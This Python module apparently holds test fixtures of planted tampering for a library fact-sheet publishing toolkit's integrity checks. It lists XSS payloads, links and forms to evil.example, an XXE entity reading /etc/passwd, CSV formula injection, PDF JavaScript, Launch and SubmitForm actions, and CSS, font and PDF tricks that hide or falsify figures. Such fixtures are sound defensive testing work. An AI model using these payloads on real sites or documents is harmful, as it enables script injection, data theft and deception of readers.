"""Changes that somebody could plant in an edition who recomputes all hashes, by family.

A change is text put into a file before or in the place of another; `PDF` has functions.
"""

from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from typing import Any

import pikepdf
from fontTools.ttLib import TTFont

from factsheet.paper.outlines import OWN_FONTS
from factsheet.published.pdf.fonts import read_font

EN = "en/library.html"
CSS = "assets/css/50-screen.screen.css"
MAIN = '<main id="content">'
VALUE = '<data value="195" data-fact="library.members" dir="ltr">195</data>'
HEAD = "</head>"
DATASET = "en/library.jsonld"
TABLE = "en/library-events.csv"
MARK = "assets/images/mark.svg"
LOGO = """\
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="24" height="24">
<title>Riverside Library</title>
<g id="mark"><rect width="24" height="24" fill="#123"/></g>
</svg>
"""


@dataclass(frozen=True)
class Planted:
    """One change of one text file."""

    family: str
    name: str
    old: str
    """What is replaced; "" to add at the end."""
    new: str

    def __str__(self) -> str:
        return f"{self.family}: {self.new[-60:] if self.old else self.new}"


def _added(family: str, name: str, before: str, *parts: str) -> list[Planted]:
    return [Planted(family, name, before, f"{part}{before}") for part in parts]


def _styled(family: str, *parts: str) -> list[Planted]:
    return [Planted(family, CSS, "", f"\n{part}\n") for part in parts]


def _instead(family: str, name: str, old: str, *parts: str) -> list[Planted]:
    return [Planted(family, name, old, part) for part in parts]


ACTIVE = _added(
    "active HTML",
    EN,
    "</footer>",
    "<script>alert(1)</script>",
    '<script src="a.js"></script>',
    '<script type="module">1</script>',
    '<script type="text/javascript;x">1</script>',
    '<SCRIPT type="application/json" type="text/javascript">1</SCRIPT>',
    "<p onclick=alert(1)>x</p>",
    "<p OnClick='x'>x</p>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><set attributeName='href' to='javascript:x'/></svg>",
    "<svg><foreignObject><p>x</p></foreignObject></svg>",
    "<svg><use href='https://evil.example/#x'/></svg>",
    "<svg><image href='https://evil.example/x.png'/></svg>",
    "<svg><style>@import 'https://evil.example'</style></svg>",
    "<math><maction actiontype='x' xlink:href='javascript:x'>x</maction></math>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="https://bank.example@evil.example/">x</a>',
    '<a href="https://[">x</a>',
    '<a href="https://library.example/" ping="https://evil.example/">x</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;1&lt;/script&gt;"></iframe>',
    '<object data="x.svg"></object>',
    '<embed src="x.swf">',
    "<applet code=x></applet>",
    '<form action="https://evil.example/"><input name="q"><button>x</button></form>',
    "<video src='https://evil.example/x.mp4' autoplay></video>",
    "<audio src='x.mp3' autoplay></audio>",
    '<img src="https://evil.example/x.png" alt="">',
    '<img src="library.png" srcset="https://evil.example/x.png 2x" alt="">',
    '<img src="x" onerror=alert(1) alt="">',
    '<picture><source srcset="//evil.example/x.png"><img src="library.png" alt=""></picture>',
    '<portal src="https://evil.example/"></portal>',
    "<template><p>x</p></template>",
    "<noscript><p>x</p></noscript>",
    "<canvas></canvas>",
    "<dialog open>x</dialog>",
    "<marquee>x</marquee>",
    "<bdo dir=rtl>abc</bdo>",
    "<p contenteditable>x</p>",
    "<p hidden>x</p>",
    "<p popover>x</p>",
    "<x-y>x</x-y>",
    "<!--[if IE]><p>x</p><![endif]-->",
    "<![CDATA[x]]>",
    "<?xml-stylesheet href='x'?>",
    "<details><summary>a</summary>b</details>",
) + _added(
    "active head",
    EN,
    HEAD,
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="Content-Security-Policy" content="x">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="preload" href="https://evil.example/x" as="script">',
    '<link rel="modulepreload" href="x.js">',
    '<link rel="prefetch" href="https://evil.example/">',
    '<link rel="dns-prefetch" href="//evil.example">',
    '<link rel="manifest" href="m.json">',
    '<link rel="icon" href="https://evil.example/i.ico">',
    '<link rel="alternate stylesheet" href="../assets/css/20-page.css" title="x">',
    "<style>@import url(//evil.example/x.css);</style>",
    "<style>p{background:url(https://evil.example/x)}</style>",
)
REPAIRED = _instead(
    "browsers read otherwise",
    EN,
    VALUE,
    VALUE.replace('value="195"', 'value="195" value="196"'),
    VALUE.replace('dir="ltr"', 'dir="ltr" dir="rtl"'),
    f"<!-->{VALUE}",
    f"<!-- a --!><b>x</b> -->{VALUE}",
    f"<p>{VALUE}<table>x<tr><td>1</td></tr></table></p>",
    f"<b><p>{VALUE}</b></p>",
    f"<a href='#content'>{VALUE}<a href='#content'>x</a></a>",
    f"{VALUE}<plaintext>",
    f"{VALUE}<textarea>",
    f"{VALUE}\x00",
    VALUE.replace("195</data>", "195</data"),
    VALUE.replace("<data", "<data/"),
    VALUE.replace(">195<", ">1&#57;5&#x0;<"),
)
HIDING = ".lead" + "{%s}"
HIDDEN = _styled(
    "hidden text",
    *(
        HIDING % one
        for one in (
            "display:none",
            "display:none!important",
            "visibility:hidden",
            "visibility:collapse",
            "opacity:0",
            "opacity:.01",
            "opacity:5%",
            "font-size:0",
            "font-size:1px",
            "font-size:calc(1rem - 1rem)",
            "font-size:.01em",
            "color:transparent",
            "color:var(--masthead)",
            "color:rgb(0 0 0/0%)",
            "background:var(--on-masthead);color:var(--on-masthead)",
            "clip-path:inset(50%)",
            "clip:rect(0,0,0,0);position:absolute",
            "position:absolute;left:-9999px",
            "position:absolute;inset-inline-start:9999px",
            "margin-inline-start:-9999px",
            "text-indent:-999em",
            "text-indent:100%;white-space:nowrap;overflow:hidden",
            "height:0;overflow:hidden",
            "max-height:1px;overflow:hidden",
            "block-size:0;overflow:clip",
            "transform:scale(0)",
            "transform:translateX(-9999px)",
            "transform:rotate(90deg)",
            "transform:scaleX(-1)",
            "filter:opacity(0)",
            "mask:linear-gradient(#0000,#0000)",
            "mix-blend-mode:screen",
            "-webkit-text-fill-color:transparent",
            "-webkit-text-security:disc",
            "content-visibility:hidden",
            "letter-spacing:-1em",
            "line-height:0",
            "zoom:.01",
            "rotate:90deg",
            "all:unset",
            "unicode-bidi:bidi-override;direction:rtl",
            "content:''",
            "content:url(../../en/library.png)",
        )
    ),
    "@media (min-width:1px){.lead{display:none}}",
    "@media screen{.lead{font-size:0}}",
    "@supports (display:grid){.lead{display:none}}",
    "main p{display:none}",
    "p:not(.x){visibility:hidden}",
    ":is(.lead,.x){display:none}",
    "data[value='195']{display:none}",
    "[data-fact]{font-size:0}",
    r".l\65 ad{d\69splay:none}",
    ".lead{--a:none;display:var(--a)}",
    "@layer x{.lead{display:none}}",
    "@container (min-width:1px){.lead{display:none}}",
    "@scope (.masthead){.lead{display:none}}",
    "@starting-style{.lead{opacity:0}}",
    ".masthead{.lead{display:none}}",
    "@keyframes x{to{opacity:0}} .lead{animation:x 1s forwards}",
) + _instead(
    "hidden in the page",
    EN,
    '<p class="lead">',
    '<p class="lead" style="display:none">',
    '<p class="lead" style="color:#fff;background:#fff">',
    '<p class="lead" style="position:absolute;left:-9999px">',
    '<p class="lead running">',
    '<p class="lead on-paper">',
    '<p class="lead" hidden>',
    '<p class="lead" aria-hidden="true">',
    '<p class="lead" inert>',
)
UNHEARD = _instead("kept from listeners", EN, MAIN, '<main id="content" aria-hidden="true">')
GENERATED = _styled(
    "generated words",
    '.lead::after{content:"1,950"}',
    ".lead::before{content:'Not '}",
    'data::after{content:"0"}',
    "data::after{content:attr(data-fact)}",
    "data::after{content:counter(a)}",
    ".lead::after{content:counter(page)}",
    ".lead::after{content:url(../../en/library.png)}",
    r'.lead::after{content:"\31 "}',
    '.lead{--w:"5"}.lead::after{content:var(--w)}',
    'data{quotes:"5" "5"}data::after{content:close-quote}',
    "ol.list{counter-reset:item 5}",
    'ul{list-style-type:"1 "}',
    '@counter-style x{system:fixed;symbols:"7"}',
    ".lead{text-overflow:'9'}",
    '.lead::after{content:"";background:url(https://evil.example/x)}',
)
COVERS = _styled(
    "covers",
    "main::after{content:'';position:fixed;inset:0;background:#fff}",
    "body::before{content:'';position:absolute;inset:0;background:#fff}",
    ".lead::after{content:'';position:absolute;width:20rem;height:5rem;background:var(--paper)}",
    ".masthead::after{content:'';position:absolute;inset-block:0;inset-inline:0;background:red}",
    ".colophon{position:relative;margin-top:-40rem;background:#fff}",
    ".colophon{position:relative;top:-40rem;background:#fff}",
    ".colophon{transform:translateY(-40rem);background:#fff}",
    ".colophon{position:sticky;bottom:0}",
    "h1{box-shadow:0 0 0 100vmax #fff}",
    "h1{outline:50rem solid #fff}",
    ".lead::before{content:'';position:absolute;border:9rem solid #fff}",
    ".lead::before{content:'';position:absolute;padding:9rem;background:linear-gradient(red,red)}",
    ".lead{backdrop-filter:blur(9px)}",
    "data{position:relative}data::after{content:'';position:absolute;inset-inline-start:0;"
    "inset-block-start:0;width:9px;height:20px;background:#fff}",
)
STYLES = _styled(
    "active CSS",
    "@import 'https://evil.example/x.css';",
    "@import url(x.css);",
    "p{background:url(https://evil.example/x)}",
    r"p{background:u\72l(//evil.example/x)}",
    "p{background:image-set('https://evil.example/x' 1x)}",
    "p{background:url(data:text/html,x)}",
    "p{behavior:url(x.htc)}",
    "p{-moz-binding:url(x.xml)}",
    "p{width:expression(alert(1))}",
    "p{cursor:url(https://evil.example/c.cur),auto}",
    "@font-face{font-family:'Facts Sans Arabic';src:url(https://evil.example/f.woff2)}",
    "@font-face{font-family:x;src:local('Evil')}",
    "@font-face{font-family:'Facts Sans Arabic';unicode-range:U+35;src:url(../fonts/x.woff2)}",
    "@namespace svg url(http://www.w3.org/2000/svg);",
    "p{background:src('x')}",
    "p{background:paint(x)}",
    "}",
)
FIGURES = _instead(
    "figures",
    EN,
    VALUE,
    VALUE.replace(">195<", ">196<"),
    VALUE.replace('"195"', '"196"'),
    VALUE.replace("195", "196"),
    VALUE.replace("library.members", "library.loans"),
    "195",
    f"{VALUE}0",
    f"1{VALUE}",
    VALUE.replace(">195<", ">1.95<"),
    VALUE.replace(">195<", "><"),
    VALUE.replace(">195<", ">-195<"),
)
DATA = [
    Planted("data", EN, '"value":195', '"value":196'),
    Planted("data", EN, '"propertyID":"library.members"', '"propertyID":"library.loans"'),
    Planted("data", EN, '"description":"195"', '"description":"196"'),
    Planted("data", EN, '"dateModified":"2021-11-25"', '"dateModified":"2022-11-25"'),
    Planted("data", EN, 'content="What the library does', 'content="9 things the library does'),
    Planted(
        "links", EN, "https://library.example/reports/2021", "https://evil.example/reports/2021"
    ),
]
DATASETS = [
    Planted("JSON-LD", DATASET, old, new)
    for old, new in (
        ('"value": 195', '"value": 196'),
        ('"value": 195', '"value": 195.5'),
        ('"value": 195', '"value": "195 or more"'),
        ('"value": 195', '"value": 195, "value": 196'),
        ('"value": 195', '"value": 195, "maxValue": 1950'),
        ('"value": 1000', '"value": -1000'),
        ('"description": "195"', '"description": "196"'),
        ('"description": "about 1,000"', '"description": "1,000"'),
        ('"propertyID": "library.members"', '"propertyID": "library.loans"'),
        ('"temporalCoverage": "2021-11-23/.."', '"temporalCoverage": "2020-11-23/.."'),
        ('"dateModified": "2021-11-25"', '"dateModified": "2022-11-25"'),
        ('"inLanguage": "en"', '"inLanguage": "fr"'),
        ('"url": "https://library', '"url": "https://evil'),
        ('"contentUrl": "library-events.csv"', '"contentUrl": "https://evil.example/x.csv"'),
        ('"@context": "https://schema.org"', '"@context": "https://evil.example"'),
        ('"name": "The library"', '"name": "The 9 libraries"'),
        ('"library.events"', '"library.visits"'),
        ("lends books", "burns books"),
        ("{", "{{"),
    )
]
TABLES = [
    Planted("CSV", TABLE, old, new)
    for old, new in (
        ("2001,2001", "2001,2002"),
        ("2001,2001", "2002,2001"),
        ("2001,2001", "2002,2002"),
        ("May 2019", "May 2091"),
        ("2019-05", "2019-06"),
        ('"Lyon, FR"', '"Paris, FR"'),
        ('"Lyon, France"', '"Paris, France"'),
        ("The doors open.", "The doors close."),
        ("The doors open.", "The 9 doors open."),
        ("Annual report", "Yearly report"),
        ("Annual report", "Annual report 2"),
        ("Annual report", "Annual report; https://evil.example"),
        ("'=SUM", "=SUM"),
        ("'=SUM", "@SUM"),
        ("'=SUM", '"\t=SUM"'),
        ("The doors open.", '"=HYPERLINK(""https://evil.example"")"'),
        ("2001,2001", '2001,2001,"Lyon, France","Lyon, FR",More,Annual report\r\n2001,2001'),
        ("library.events.date", "library.events.place"),
        ("source\r\n", "source,more\r\n"),
    )
]
PICTURES = [
    *_added(
        "SVG",
        MARK,
        '<g id="mark">',
        "<script>alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        '<script href="https://evil.example/x.js"/>',
        '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
        '<a href="javascript:alert(1)"><rect width="9" height="9"/></a>',
        '<image href="https://evil.example/x.png" width="9" height="9"/>',
        '<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>',
        '<use href="https://evil.example/x.svg#x"/>',
        '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>',
        '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="//evil.example"/></foreignObject>',
        "<style>@import url(https://evil.example/x.css);</style>",
        "<style>rect{fill:url(https://evil.example/x.svg#x)}</style>",
        '<rect style="fill:url(//evil.example/x)" width="9" height="9"/>',
        '<rect onclick="alert(1)" width="9" height="9"/>',
        '<set attributeName="href" to="javascript:alert(1)"/>',
        '<animate attributeName="href" values="javascript:alert(1)"/>',
        '<handler type="application/ecmascript">alert(1)</handler>',
        '<feImage href="https://evil.example/x.png"/>',
    ),
    Planted("SVG", MARK, "<svg ", '<svg onload="alert(1)" '),
    Planted("SVG", MARK, "<svg ", '<?xml-stylesheet href="https://evil.example/x.css"?><svg '),
    Planted("SVG", MARK, "<svg ", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg '),
    Planted("SVG", MARK, "</svg>", ""),
]
HIDDEN_WORDS = [
    *_added(
        "words in pictures",
        EN,
        "</footer>",
        '<svg viewBox="0 0 9 9"><text x="1" y="9">Not so</text></svg>',
        '<svg viewBox="0 0 9 9"><title>Riverside</title><desc>Not so</desc></svg>',
    ),
]
WORDS = [
    Planted("words", TABLE, "\ufeff", ""),
    Planted("words", EN, "<title>The library", "<title>Libraries"),
    Planted("words", MARK, "#123", "#456"),
    Planted("words", CSS, "", "\n.lead{color:#123}\n"),
]
"""What is neither active nor a figure, and hides nothing: only the source shows most of it."""
INDEX, SEARCH, SCRIPT = "en/index.html", "en/search.js", "assets/js/search.js"
SEARCHES = [
    *_instead("search", INDEX, "../assets/js/search.js", "https://example.org/search.js", "a.js"),
    *_instead("search", INDEX, '"../en/search.js"', '"//example.org/en/search.js"', '"../en/x.js"'),
    *_instead(
        "search", INDEX, "data-index", "data-other", "async data-index", "onload=x data-index"
    ),
    *_instead("search", INDEX, 'latn"></script>', 'latn">alert(1)</script>'),
    *_added("search", EN, "</body>", '<script src="../assets/js/x.js"></script>'),
    *_instead("search", INDEX, '"Search the', '"196 of the'),
    *_instead("search", SEARCH, "195", "196"),
    *_instead("search", SEARCH, "]};", "]},alert(1);", "]}; alert(1);"),
    Planted("search", SEARCH, "", "//"),
    Planted("search", SCRIPT, "", "alert(1)"),
]
TEXTS = [
    *(*ACTIVE, *REPAIRED, *HIDDEN, *UNHEARD, *GENERATED, *COVERS, *STYLES, *FIGURES, *DATA),
    *(*DATASETS, *TABLES, *PICTURES, *SEARCHES, *HIDDEN_WORDS),
]

Named = dict[str, Any]
Claim = Callable[[Named], object]
"""A change of a manifest."""


def _fact(name: str, **changed: object) -> Claim:
    return lambda manifest: manifest["facts"][name][0].update(changed)


def _language(**changed: object) -> Claim:
    return lambda manifest: manifest["locales"]["en"].update(changed)


def _row(**changed: str) -> Claim:
    return lambda manifest: manifest["facts"]["library.events"][0]["cells"].update(changed)


def _renamed(manifest: Named) -> None:
    manifest["facts"]["library.readers"] = manifest["facts"].pop("library.members")


def _source(**changed: str) -> Claim:
    return lambda manifest: manifest["facts"]["library.members"][0]["source"].update(changed)


CLAIMS: dict[str, Claim] = {
    "another value": _fact("library.members", value="196"),
    "another value of a number that is about": _fact("library.loans", value="1001"),
    "items left out": _fact("library.languages", items=["ar", "en", "fr"]),
    "another value of a name": _fact("library.organization", value="Group of Seven Libraries"),
    "another text": _fact("library.purpose", value="The library lends 9 books."),
    "another place": _fact("library.seat", value="Paris, FR"),
    "another day of a row": _row(date="2002"),
    "other words of a row": _row(event="The doors close."),
    "a row left out": lambda manifest: manifest["facts"]["library.events"].pop(),
    "a fact left out": lambda manifest: manifest["facts"].pop("library.members"),
    "a fact under another name": _renamed,
    "a source of another year": _source(date="2012"),
    "a source of another name": _source(title="Yearly report"),
    "another publisher": lambda manifest: manifest.update(publisher="Lakeside Library"),
    "no publisher": lambda manifest: manifest.pop("publisher"),
    "another day": lambda manifest: manifest.update(edition="2022-11-25"),
    "no day": lambda manifest: manifest.update(edition="</p>"),
    "a language that runs the other way": _language(direction="rtl"),
    "a language left out": _language(state="left-out"),
    "a language in part": _language(state="fallback", percent=50),
    "a language of another day": _language(edition="2020-11-25"),
    "no such language": lambda manifest: manifest["locales"].pop("en"),
    "a language more": lambda manifest: manifest["locales"].update(fr=manifest["locales"]["en"]),
    "a file not named": lambda manifest: manifest["artifacts"].pop("en/library-events.csv"),
    "a file that is not there": lambda manifest: manifest["artifacts"].update(
        {"en/x.html": {"sha256": "0"}}
    ),
    "a file that is elsewhere": lambda manifest: manifest["artifacts"].update(
        {"../x.html": {"sha256": "0"}}
    ),
}
FILES = {
    "a program": ("assets/x.js", b"alert(1)"),
    "a module": ("assets/x.mjs", b"alert(1)"),
    "bytecode": ("assets/x.wasm", b"\0asm"),
    "an archive": ("en/library.zip", b"PK"),
    "an executable": ("en/library.exe", b"MZ"),
    "rules of a server": (".htaccess", b"Redirect / https://evil.example/"),
    "a worker": ("sw.js", b"1"),
    "a page of its own": ("en/more.html", b"<!DOCTYPE html><p>196 members"),
    "a page in a language unknown": ("de/library.html", b"<!DOCTYPE html><p>196 members"),
    "a picture with a program": ("assets/x.svg", LOGO.replace("<g", "<script/><g").encode()),
    "no picture": ("assets/x.png", b"<script>alert(1)</script>"),
    "no font": ("assets/fonts/x.woff2", b"wOF2"),
    "a style that fetches": ("assets/css/x.css", b"@import '//evil.example/x.css';"),
    "no PDF": ("en/more.pdf", b"<script>alert(1)</script>"),
}
"""Files that the manifest names, by what they are."""


def swapped_digits() -> bytes:
    """The toolkit's own font, with 1 drawn where 9 is read and the other way round."""
    font = TTFont(OWN_FONTS / "FactsSansArabic-Regular.ttf")
    for table in font["cmap"].tables:
        if table.isUnicode():
            codes = table.cmap
            codes[ord("1")], codes[ord("9")] = codes[ord("9")], codes[ord("1")]
    font.save(written := BytesIO())
    return written.getvalue()


Change = Callable[[pikepdf.Pdf], object]


def _root(key: str, value: str) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root[key] = pikepdf.Object.parse(value.encode())

    return change


def _page(key: str, value: str) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj[key] = pikepdf.Object.parse(value.encode())

    return change


def _note(value: str) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0].obj
        if "/Annots" not in page:
            page["/Annots"] = pikepdf.Array()
        page["/Annots"].append(pdf.make_indirect(pikepdf.Object.parse(value.encode())))

    return change


def _drawn(content: str, *, first: bool = False) -> Change:
    """Content of a page; in it /F is one of its fonts, and <x> stands for three digits."""

    def change(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0]
        fonts = page.resources["/Font"].items()
        name, code = min(
            (name, code)
            for name, font in fonts
            for code, text in read_font(font).texts.items()
            if text.isdecimal()
        )
        drawn = content.replace("/F", name).replace("<x>", f"<{code:04x}{code:04x}{code:04x}>")
        page.contents_add(drawn.encode(), prepend=first)

    return change


def _attached(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ")


def _of_kind(kind: str) -> Change:
    """Another kind of the first count in the attached facts."""

    def change(pdf: pikepdf.Pdf) -> None:
        data = pdf.attachments["facts.json"].get_file().read_bytes()
        assert b'"kind": "count"' in data
        spec = pdf.attachments["facts.json"].obj
        spec.EF.F.write(data.replace(b'"kind": "count"', f'"kind": "{kind}"'.encode(), 1))

    return change


def _edited(old: bytes, new: bytes) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0]
        page.contents_coalesce()
        data = page.obj["/Contents"].read_bytes()
        assert old in data
        page.obj["/Contents"].write(data.replace(old, new, 1))

    return change


def _shifted(pdf: pikepdf.Pdf) -> None:
    """Where a digit 1 is read, the glyph of a 9 is drawn, and the other way round."""
    for item in pdf.objects:
        if isinstance(item, pikepdf.Dictionary) and "/ToUnicode" in item:
            table = item.ToUnicode.read_bytes()
            swapped = table.replace(b"<0031>", b"<x>").replace(b"<0039>", b"<0031>")
            item.ToUnicode.write(swapped.replace(b"<x>", b"<0039>"))


_URI = "<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /%s %s >> >>"
PDFS: dict[str, Change] = {
    "a program when it opens": _root("/OpenAction", "<< /S /JavaScript /JS (x) >>"),
    "a program in the names": _root(
        "/Names", "<< /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"
    ),
    "an action when it closes": _root("/AA", "<< /WC << /S /JavaScript /JS (x) >> >>"),
    "a form": _root("/AcroForm", "<< /Fields [] >>"),
    "an XFA form": _root("/AcroForm", "<< /Fields [] /XFA (x) >>"),
    "layers": _root("/OCProperties", "<< /OCGs [] /D << >> >>"),
    "a base for addresses": _root("/URI", "<< /Base (https://evil.example/) >>"),
    "a portfolio": _root("/Collection", "<< >>"),
    "an action of a page": _page("/AA", "<< /O << /S /Launch /F (x) >> >>"),
    "a tiny crop box": _page("/CropBox", "[0 0 10 10]"),
    "a crop box that cuts": _page("/CropBox", "[0 0 595 300]"),
    "a turned page": _page("/Rotate", "180"),
    "a unit for the page": _page("/UserUnit", "9"),
    "a link elsewhere": _note(_URI % ("URI", "/URI (https://evil.example/)")),
    "a program behind a link": _note(_URI % ("JavaScript", "/JS (x)")),
    "a launch": _note(_URI % ("Launch", "/F (x.exe)")),
    "another file": _note(_URI % ("GoToR", "/F (x.pdf) /D [0 /Fit]")),
    "a form that is sent": _note(_URI % ("SubmitForm", "/F (https://evil.example/)")),
    "a second action": _note(_URI % ("GoTo", "/D (x) /Next << /S /JavaScript /JS (x) >>")),
    "a note": _note("<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (196) >>"),
    "text over the page": _note("<< /Type /Annot /Subtype /FreeText /Rect [0 0 400 400] >>"),
    "a stamp": _note("<< /Type /Annot /Subtype /Stamp /Rect [0 0 400 400] >>"),
    "a widget": _note("<< /Type /Annot /Subtype /Widget /FT /Tx /Rect [0 0 99 99] >>"),
    "a film": _note("<< /Type /Annot /Subtype /RichMedia /Rect [0 0 99 99] >>"),
    "a file beside the facts": _attached,
    **{f"a kind of fact: {kind}": _of_kind(kind) for kind in ("ordinal", "money", "x")},
    "invisible text": _drawn("BT 3 Tr /F 12 Tf 90 90 Td <x> Tj ET"),
    "all text invisible": _edited(b"BT", b"BT 3 Tr"),
    "a white cover": _drawn("q 1 1 1 rg 0 0 600 850 re f Q"),
    "a cover of two triangles": _drawn("q 1 1 1 rg 0 0 m 600 0 l 600 850 l 0 850 l h f Q"),
    "a cover of colour": _drawn("q 0 0 1 rg 0 300 600 550 re f Q"),
    "a cover that is a picture in the page": _drawn(
        "q 600 0 0 850 0 0 cm BI /W 1 /H 1 /CS /G /BPC 8 ID x EI Q"
    ),
    "a cover in a layer": _drawn("/OC /x BDC 1 1 1 rg 0 0 600 850 re f EMC"),
    "a clip": _drawn("0 0 1 1 re W n", first=True),
    "a shifted glyph map": _shifted,
    "a number more": _drawn("BT /F 12 Tf 90 90 Td <x> Tj ET"),
}
